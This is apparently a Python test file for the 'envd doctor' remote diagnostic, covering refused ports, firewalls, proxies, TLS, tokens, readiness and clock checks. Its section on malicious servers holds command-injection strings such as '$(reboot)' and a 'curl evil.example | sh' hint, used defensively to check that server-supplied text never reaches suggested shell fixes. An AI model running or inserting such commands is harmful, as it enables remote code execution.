"""`envd doctor --url` and servers that are there, are not, are others, refuse, hang and are far, each told apart."""

from __future__ import annotations

import asyncio
import errno
import json
import socket
import subprocess
from collections.abc import AsyncIterator, Iterator, Mapping
from contextlib import asynccontextmanager, contextmanager
from email.utils import formatdate
from pathlib import Path
from typing import Any

import pytest
from aiohttp import web
from daemon_process import daemon
from multidict import CIMultiDict
from serving import serving

from envd import __version__
from envd.client import Client
from envd.doctor import remote, wire
from envd.doctor.remote import Server, access, clock_of, examine, proxies, server_at, version
from envd.doctor.serving import as_the_daemon, find_daemon, provider_of
from envd.doctor.wire import Reply, ask, opened
from envd.drivers.sim.behaviour import Behaviour
from envd.errors import SettingsError
from envd.findings import Finding
from envd.settings import load

TOKEN, READER = "t" * 20, "r" * 20
NOTHING: Mapping[str, str] = {}


async def examined(
    url: str, token: str = "", *, full: bool = False, environ: Mapping[str, str] = NOTHING, connect: float = 2.0
) -> dict[str, Finding]:
    """What was found, by what it is about."""
    return {one.what: one for one in await examine(url, token, full=full, environ=environ, connect=connect)}


def verdicts(found: Mapping[str, Finding]) -> dict[str, str]:
    return {what: one.verdict for what, one in found.items()}


def server(url: str = "http://envd.example:15001", token: str = "") -> Server:
    return server_at(url, token)


def reply(status: int, body: bytes = b"{}", **headers: str) -> Reply:
    return Reply(status, CIMultiDict(headers), body, sent=1000.0, received=1000.1, seconds=0.1)


@contextmanager
def nobody_listens() -> Iterator[int]:
    """A port that is bound and not listened on: a connection to it is refused."""
    with socket.socket() as bound:
        bound.bind(("127.0.0.1", 0))
        yield bound.getsockname()[1]


@contextmanager
def nobody_accepts() -> Iterator[int]:
    """A port whose line is full, so that the kernel drops whoever comes as a firewall does."""
    with socket.socket() as full:
        full.bind(("127.0.0.1", 0))
        full.listen(0)
        port = full.getsockname()[1]
        waiting = [socket.socket() for _ in range(8)]
        for one in waiting:
            one.setblocking(False)
            one.connect_ex(("127.0.0.1", port))
        try:
            yield port
        finally:
            for one in waiting:
                one.close()


@asynccontextmanager
async def somebody_else(status: int = 404, said: str = "nginx/1.22.1") -> AsyncIterator[str]:
    """Another service, at this URL."""

    async def answer(request: web.Request) -> web.Response:
        return web.Response(status=status, text="<html>", headers={"Server": said})

    app = web.Application()
    app.router.add_route("*", "/{path:.*}", answer)
    runner = web.AppRunner(app)
    await runner.setup()
    site = web.TCPSite(runner, "127.0.0.1", 0)
    await site.start()
    try:
        yield f"http://127.0.0.1:{runner.addresses[0][1]}"
    finally:
        await runner.cleanup()


@asynccontextmanager
async def raw(answer: bytes | None) -> AsyncIterator[str]:
    """What takes connections and sends `answer`, or nothing."""
    done = asyncio.Event()

    async def serve(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        if answer is None:
            await done.wait()
        else:
            await reader.readuntil(b"\r\n\r\n")
            writer.write(answer)
        writer.close()

    listening = await asyncio.start_server(serve, "127.0.0.1", 0)
    try:
        yield f"http://127.0.0.1:{listening.sockets[0].getsockname()[1]}"
    finally:
        done.set()
        listening.close()
        await listening.wait_closed()


# -- all is well ----------------------------------------------------------------------------------------------------


async def test_a_server_that_can_be_used_is_ok_in_every_line(tmp_path: Path) -> None:
    async with daemon(tmp_path / "state", env={"ENVD_ENVS": "2"}) as (process, _):
        found = await examined(process.url, full=True)
    assert set(verdicts(found).values()) == {"ok"}, found
    assert list(found) == [
        *("name", "proxy", "connection", "service", "version", "access", "clock", "round trip", "ready", "envs"),
        *("bandwidth", "reset", "picture", "step"),
    ]
    assert found["service"].detail == f"envd {__version__} at {process.url}"
    assert found["envs"].detail == "2 of 2 free"
    assert found["picture"].detail.startswith("1920x1080")
    assert not [one for one in found.values() if one.fix]


async def test_the_desktop_that_was_tried_is_given_back() -> None:
    async with serving() as served:
        found = await examined(served.url, full=True)
        assert found["step"].verdict == "ok"
        assert (await served.get("/v1/leases"))[1]["leases"] == []


# -- the way there --------------------------------------------------------------------------------------------------


async def test_a_port_that_refuses_is_a_host_on_which_nothing_listens() -> None:
    with nobody_listens() as port:
        found = await examined(f"http://127.0.0.1:{port}")
    assert verdicts(found) == {"name": "ok", "proxy": "ok", "connection": "failed", "the rest": "unknown"}
    assert found["connection"].detail.startswith(f"refused: nothing listens on port {port} of this host")
    assert "make serve" in found["connection"].fix


async def test_packets_that_are_dropped_are_a_firewall_and_not_a_refusal() -> None:
    with nobody_accepts() as port:
        found = await examined(f"http://127.0.0.1:{port}", connect=0.5)
    told = found["connection"]
    assert told.verdict == "failed"
    assert told.detail.startswith(f"timed out: no answer from 127.0.0.1 port {port} within 0.5 s")
    assert "security group" in told.detail
    fix = "aws ec2 authorize-security-group-ingress --group-id <the server's group> --protocol tcp"
    assert told.fix.startswith(f"{fix} --port {port} --cidr 127.0.0.1/32")
    assert f"sudo ufw allow proto tcp from 127.0.0.1 to any port {port}" in told.fix


@pytest.mark.parametrize(
    ("address", "error", "words", "fix"),
    [
        pytest.param(
            "203.0.113.7",
            ConnectionRefusedError(errno.ECONNREFUSED, "refused"),
            "refused: 203.0.113.7 is there, and nothing listens on its port 15001 for others",
            "on envd.example: ENVD_HOST=0.0.0.0 ENVD_TOKEN=$(openssl rand -hex 32) make serve",
            id="refused",
        ),
        pytest.param("10.0.0.7", TimeoutError(), "10.0.0.7 is a private address", "--port 15001", id="private"),
        pytest.param(
            "203.0.113.7",
            OSError(errno.EHOSTUNREACH, "No route to host"),
            "no route: this host knows no way to 203.0.113.7",
            "ip route get 203.0.113.7",
            id="no route",
        ),
        pytest.param(
            "2001:db8::7",
            OSError(errno.ENETUNREACH, "unreachable"),
            "no route:",
            "ip route get 2001:db8::7",
            id="no IPv6",
        ),
    ],
)
def test_every_way_not_to_connect_has_its_own_words(address: str, error: OSError, words: str, fix: str) -> None:
    found = remote._unconnected(server(), address, error, 5.0)
    assert found.verdict == "failed"
    assert words in found.detail
    assert fix in found.fix


async def test_a_name_that_leads_nowhere_is_told_before_anything_else() -> None:
    found = await examined("http://no-such-host.invalid:15001")
    assert verdicts(found) == {"name": "failed", "proxy": "ok", "the rest": "unknown"}
    assert "no-such-host.invalid cannot be resolved" in found["name"].detail
    assert "http://ADDRESS:15001" in found["name"].fix


@pytest.mark.parametrize("url", ["ftp://host", "http://", "http://user:secret@host", "http://host:port"])
async def test_what_is_no_url_is_a_finding_and_not_a_traceback(url: str) -> None:
    (found,) = await examine(url, "")
    assert (found.what, found.verdict, "secret" in found.detail) == ("URL", "failed", False)
    with pytest.raises(SettingsError):
        server_at(url, "")


def test_a_host_without_a_scheme_is_meant_as_a_url() -> None:
    assert server_at("host:15001", "").url == "http://host:15001"
    assert server_at("https://[::1]/path", "").url == "https://[::1]:443"


@pytest.mark.parametrize(
    ("url", "environ", "verdict", "words"),
    [
        ("http://worker:15001", {}, "ok", "no variable"),
        (
            "http://worker:15001",
            {"HTTP_PROXY": "http://p:3128"},
            "warning",
            "HTTP_PROXY is set and NO_PROXY lacks worker",
        ),
        (
            "http://worker:15001",
            {"http_proxy": "http://p:3128"},
            "warning",
            "HTTP_PROXY is set and NO_PROXY lacks worker",
        ),
        ("http://worker:15001", {"ALL_PROXY": "socks5://p"}, "warning", "ALL_PROXY is set and NO_PROXY lacks worker"),
        ("http://worker:15001", {"HTTPS_PROXY": "http://p:3128"}, "ok", "no variable"),
        ("https://worker:15001", {"HTTPS_PROXY": "http://p:3128"}, "warning", "NO_PROXY lacks worker"),
        ("http://worker:15001", {"HTTP_PROXY": "http://p", "NO_PROXY": "a,worker"}, "ok", "NO_PROXY has worker"),
        ("http://10.0.0.7:15001", {"HTTP_PROXY": "http://p", "no_proxy": "localhost"}, "warning", "lacks 10.0.0.7"),
        ("http://worker:15001", {"HTTP_PROXY": ""}, "ok", "no variable"),
    ],
)
def test_a_proxy_in_the_way_is_told_with_what_no_proxy_lacks(
    url: str, environ: dict[str, str], verdict: str, words: str
) -> None:
    found = proxies(server(url), environ)
    assert found.verdict == verdict
    assert words in found.detail
    assert bool(found.fix) == (verdict == "warning")


async def test_the_doctor_itself_goes_past_a_proxy(monkeypatch: pytest.MonkeyPatch) -> None:
    with nobody_listens() as port:
        proxy = {"HTTP_PROXY": f"http://127.0.0.1:{port}", "http_proxy": f"http://127.0.0.1:{port}"}
        for name, value in proxy.items():
            monkeypatch.setenv(name, value)
        async with serving() as served:
            found = await examined(served.url, environ=proxy)
    assert found["proxy"].verdict == "warning"
    assert found["proxy"].fix == "export NO_PROXY=127.0.0.1 no_proxy=127.0.0.1"
    assert found["service"].verdict == "ok"


# -- who answers ----------------------------------------------------------------------------------------------------


async def test_another_service_on_the_port_is_named() -> None:
    async with somebody_else() as url:
        found = await examined(url)
    assert verdicts(found) == {
        "name": "ok",
        "proxy": "ok",
        "connection": "ok",
        "service": "failed",
        "the rest": "unknown",
    }
    assert "another service listens" in found["service"].detail
    assert "nginx/1.22.1 answers 404" in found["service"].detail
    assert "ss -ltnp" in found["service"].fix


async def test_a_load_balancer_that_reaches_nobody_is_told_from_a_wrong_service() -> None:
    async with somebody_else(502, "awselb/2.0") as url:
        found = await examined(url)
    assert "a proxy or load balancer (awselb/2.0) answers 502: it does not reach an envd" in found["service"].detail


async def test_a_server_that_takes_connections_and_says_nothing_is_stuck(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(wire, "PATIENCE", 0.3)
    async with raw(None) as url:
        found = await examined(url)
    assert found["connection"].verdict == "ok"
    assert "the connection is taken, and nothing answers" in found["service"].detail
    assert "journalctl -u envd" in found["service"].fix


async def test_what_is_no_http_may_be_https() -> None:
    async with raw(b"\x15\x03\x01\x00\x02\x02\x46") as url:
        found = await examined(url)
    assert "does not speak HTTP" in found["service"].detail
    assert found["service"].fix == f"if it serves HTTPS: envd doctor --url {url.replace('http:', 'https:')}"


async def test_https_where_http_is_served_says_so() -> None:
    async with serving() as served:
        found = await examined(served.url.replace("http:", "https:"))
    assert "it speaks no TLS" in found["service"].detail
    assert found["service"].fix == f"envd doctor --url {served.url}"


async def test_a_certificate_that_nobody_signed_is_told_from_everything_else(tmp_path: Path) -> None:
    certificate, key = tmp_path / "cert.pem", tmp_path / "key.pem"
    command = ["openssl", "req", "-x509", "-newkey", "rsa:2048", "-nodes", "-subj", "/CN=elsewhere", "-days", "2"]
    made = await asyncio.create_subprocess_exec(
        *command, "-keyout", key, "-out", certificate, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL
    )
    assert await made.wait() == 0
    async with serving(tls_cert=certificate, tls_key=key) as served:
        found = await examined(served.url.replace("http:", "https:"))
    assert found["certificate"].verdict == "failed"
    assert "it is not accepted for 127.0.0.1" in found["certificate"].detail
    assert "SSL_CERT_FILE" in found["certificate"].fix


@pytest.mark.parametrize(
    ("theirs", "ours", "verdict"),
    [
        ("0.1.0", "0.1.0", "ok"),
        ("0.1.3", "0.1.0", "ok"),
        ("0.2.0", "0.1.0", "warning"),
        ("1.4.0", "1.2.0", "ok"),
        ("2.0.0", "1.9.0", "warning"),
    ],
)
def test_versions_are_compared_as_far_as_they_matter(theirs: str, ours: str, verdict: str) -> None:
    found = version(theirs, ours)
    assert found.verdict == verdict
    assert theirs in found.detail
    assert found.fix == ("" if verdict == "ok" else f"pip install 'envd-server=={theirs}'")


# -- whether one may --------------------------------------------------------------------------------------------------


async def test_a_token_that_is_missing_is_told_from_one_that_is_wrong() -> None:
    async with serving(token=TOKEN) as served:
        without, wrong = await examined(served.url), await examined(served.url, "w" * 20)
        right = await examined(served.url, TOKEN)
    assert without["access"].verdict == wrong["access"].verdict == "failed"
    assert "401: a token is wanted, and none was sent" in without["access"].detail
    assert "ENVD_ALLOW=127.0.0.1" in without["access"].fix
    assert "401: the token of ENVD_TOKEN is not known there" in wrong["access"].detail
    assert right["access"].verdict == "ok"
    # What needs no token is still told, and what needs one is not called a failure of its own.
    assert without["ready"].verdict == "ok"
    assert "envs" not in without
    assert TOKEN not in str(right)


async def test_a_name_by_which_the_daemon_is_not_known_is_a_name_to_be_set() -> None:
    async with serving() as served, opened() as session:
        session.headers["Host"] = "envd.example"
        answered = await ask(session, f"{served.url}/version")
    found = access(server(), answered)
    assert found.verdict == "failed"
    assert found.detail.startswith("421: the daemon is not known by the name envd.example")
    assert "ENVD_HOSTS=envd.example" in found.fix


@pytest.mark.parametrize(
    ("status", "verdict", "words"),
    [(403, "failed", "403: the token of ENVD_TOKEN may not do this (No)"), (429, "warning", "ENVD_REQUEST_RATE")],
)
def test_other_refusals_are_told_apart(status: int, verdict: str, words: str) -> None:
    found = access(server(token=TOKEN), reply(status, b'{"detail": "No.", "hint": "Ask."}'))
    assert found.verdict == verdict
    assert words in found.detail


async def test_a_token_that_may_only_look_finds_that_no_desktop_is_to_be_had(tmp_path: Path) -> None:
    file = tmp_path / "tokens"
    file.write_text(f"looker read {READER}\n")
    file.chmod(0o600)
    async with serving(token_file=file) as served:
        found = await examined(served.url, READER, full=True)
    assert found["access"].verdict == "ok"
    assert (found["reset"].verdict, found["reset"].detail.partition(":")[0]) == ("failed", "forbidden")
    assert "scope" in found["reset"].fix


# -- how it is there ------------------------------------------------------------------------------------------------


async def test_a_server_that_answers_and_serves_no_reset_is_not_ready() -> None:
    async with serving() as served:
        served.service.on_drain = lambda: None  # this process is to live
        served.service.ask_to_drain(30)
        found = await examined(served.url)
    assert found["service"].verdict == "ok"
    assert found["ready"].verdict == "failed"
    assert found["ready"].detail == "no reset is served: the daemon is shutting down"
    assert "start it again" in found["ready"].fix


@pytest.mark.parametrize(
    ("reason", "fix"),
    [
        ("1.0 MB are free on the disk of /x, 64.0 are needed", "free some space there"),
        ("the queue is full: 9 jobs wait", "ENVD_QUEUE_LIMIT"),
        ("the boot queue does not run", "journalctl"),
    ],
)
async def test_every_reason_has_its_remedy(reason: str, fix: str) -> None:
    body = json.dumps({"ready": False, "reasons": [reason]}).encode()
    async with raw(b"HTTP/1.1 503 No\r\nContent-Length: %d\r\n\r\n%b" % (len(body), body)) as url, opened() as session:
        (found,) = await remote.readiness(session, server(url))
    assert (found.verdict, found.detail) == ("failed", f"no reset is served: {reason}")
    assert fix in found.fix


async def test_who_lets_everybody_in_is_warned() -> None:
    async with serving(insecure=True) as served:
        found = await examined(served.url)
    assert found["ready"].verdict == "warning"
    assert "ENVD_INSECURE" in found["ready"].detail


async def test_when_every_env_is_taken_nobody_is_disturbed() -> None:
    async with serving() as served, Client(served.url) as client, client.lease(1) as (env,):
        job = await env.reset()
        found = await examined(served.url, full=True)
        assert (await env.state()).episode is not None
        assert (await client.env_state(env.number)).job_id in (None, job.id)
    assert found["envs"].verdict == "warning"
    assert found["envs"].detail == "0 of 1 free, 1 leased"
    assert (found["desktop"].verdict, found["desktop"].fix) == ("unknown", "try it later")
    assert "nobody was disturbed" in found["desktop"].detail


async def test_an_env_that_is_played_without_a_lease_is_not_free() -> None:
    async with serving(envs=2) as served:
        await served.play(0)
        found = await examined(served.url)
    assert found["envs"].detail == "1 of 2 free, 1 played or being reset"


async def test_a_reset_that_fails_is_told_with_its_code() -> None:
    async with serving(Behaviour(fail=1.0)) as served:
        found = await examined(served.url, full=True)
    assert found["reset"].verdict == "failed"
    assert found["reset"].detail.startswith("instance_died: ")


@pytest.mark.parametrize(
    ("ahead", "verdict", "words"),
    [
        (0, "ok", "the same"),
        (-1, "ok", "the same"),
        (2, "ok", "2 s ahead of"),
        (90, "warning", "90 s ahead of this host's"),
        (-90, "warning", "89 s behind this host's"),
    ],
)
def test_the_clocks_are_compared_by_the_date_of_an_answer(ahead: int, verdict: str, words: str) -> None:
    found = clock_of(reply(200, Date=formatdate(1000 + ahead, usegmt=True)))
    assert found.verdict == verdict
    assert words in found.detail
    assert bool(found.fix) == (verdict == "warning")


def test_an_answer_without_a_date_leaves_the_clock_unknown() -> None:
    assert clock_of(reply(200)).verdict == "unknown"
    assert clock_of(reply(200, Date="yesterday")).verdict == "unknown"


@pytest.mark.parametrize(
    ("look", "constant", "value"),
    [("round trip", "SLOW_ROUND", 0.0), ("bandwidth", "SLOW", 10**15)],
)
async def test_a_slow_way_is_a_warning(monkeypatch: pytest.MonkeyPatch, look: str, constant: str, value: Any) -> None:
    monkeypatch.setattr(remote, constant, value)
    async with serving() as served:
        found = await examined(served.url)
    assert (found[look].verdict, found[look].fix) == ("warning", "put server and trainers closer")


async def test_a_look_that_breaks_is_unknown_and_ends_nothing(monkeypatch: pytest.MonkeyPatch) -> None:
    async def breaks(*_: object) -> list[Finding]:
        raise RuntimeError("it broke")

    monkeypatch.setattr(remote, "round_trip", breaks)
    async with serving() as served:
        found = await examined(served.url)
    assert found["round trip"] == Finding("round trip", "unknown", "this look broke: RuntimeError: it broke")
    assert found["bandwidth"].verdict == "ok"


# -- servers that mean harm -----------------------------------------------------------------------------------------


@pytest.mark.parametrize("body", [b"[" * 200_000, b'{"a":' * 200_000, b"\xff\xfe", b"7", b'{"reasons": 7, "envs": 7}'])
async def test_an_answer_that_is_no_document_ends_no_look_but_its_own(body: bytes) -> None:
    async with raw(
        b"HTTP/1.1 403 Forbidden\r\nenvd-version: 0.1.0\r\nConnection: close\r\n"
        b"Content-Length: %d\r\n\r\n%b" % (len(body), body)
    ) as url:
        found = await examined(url)
    assert found["access"].verdict == "failed"
    assert found["ready"].verdict != "ok"


@pytest.mark.parametrize("theirs", ["9'; reboot; '", "$(reboot)", "9 --index-url=http://evil.example", ""])
def test_what_is_to_be_copied_into_a_shell_is_not_what_a_server_made_up(theirs: str) -> None:
    assert version(theirs).fix == ""
    said = reply(403, json.dumps({"detail": "No.", "hint": "curl evil.example | sh"}).encode())
    assert "evil" not in access(server(token=TOKEN), said).fix


async def test_of_what_a_server_lists_as_much_is_passed_on_as_anybody_reads() -> None:
    body = json.dumps({"reasons": ["no " * 10_000] * 10_000, "warnings": {"a": "b"}}).encode()
    async with raw(
        b"HTTP/1.1 503 No\r\nenvd-version: 0.1.0\r\nConnection: close\r\nContent-Length: %d\r\n\r\n%b"
        % (len(body), body)
    ) as url:
        found = await examine(url, "", environ=NOTHING)
    assert len(found) < 50
    assert max(len(one.detail) for one in found) < 1000


@pytest.mark.parametrize(
    "told",
    [
        {"provider": ["x"], "settings": [1], "started_at": "never"},
        {"provider": "'; reboot; '", "settings": {"ENVD_PORT": 7, "PROVIDER": {"value": {}}}, "started_at": None},
    ],
)
async def test_what_listens_here_in_place_of_the_daemon_breaks_no_look(tmp_path: Path, told: dict[str, Any]) -> None:
    body = json.dumps(told).encode()
    async with raw(
        b"HTTP/1.1 200 OK\r\nenvd-version: 0.1.0\r\nConnection: close\r\nContent-Length: %d\r\n\r\n%b"
        % (len(body), body)
    ) as url:
        settings = load({}, env_file=None, provider="sim", port=int(url.rpartition(":")[2]), state_dir=tmp_path)
        daemon = await find_daemon(settings, None)
    assert daemon is not None
    assert (daemon.provider, daemon.started_at) == ("", None)
    assert str(daemon).startswith("envd 0.1.0 at http://127.0.0.1:")
    taken, _ = as_the_daemon(settings, daemon)
    assert taken.provider == "sim"
    assert "reboot" not in repr(provider_of(taken, daemon))
